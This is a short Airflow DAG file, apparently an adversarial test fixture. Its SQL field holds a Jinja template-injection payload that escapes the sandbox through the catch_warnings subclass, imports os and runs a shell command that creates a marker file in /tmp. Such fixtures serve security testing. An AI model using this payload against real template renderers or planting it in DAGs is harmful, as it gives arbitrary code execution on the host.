# ATTACK (inline SQL): the classic `catch_warnings()._module.__builtins__['__import__']('os')` loop.
from airflow import DAG
from airflow.providers.postgres.operators.postgres import PostgresOperator

with DAG('adv_ssti_catch_warnings', schedule=None) as dag:
    PostgresOperator(task_id="payload", postgres_conn_id="shop_pg", sql="{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('touch /tmp/kappa-adversarial-ssti-warnings') }}{% endif %}{% endfor %}SELECT 1 AS x")
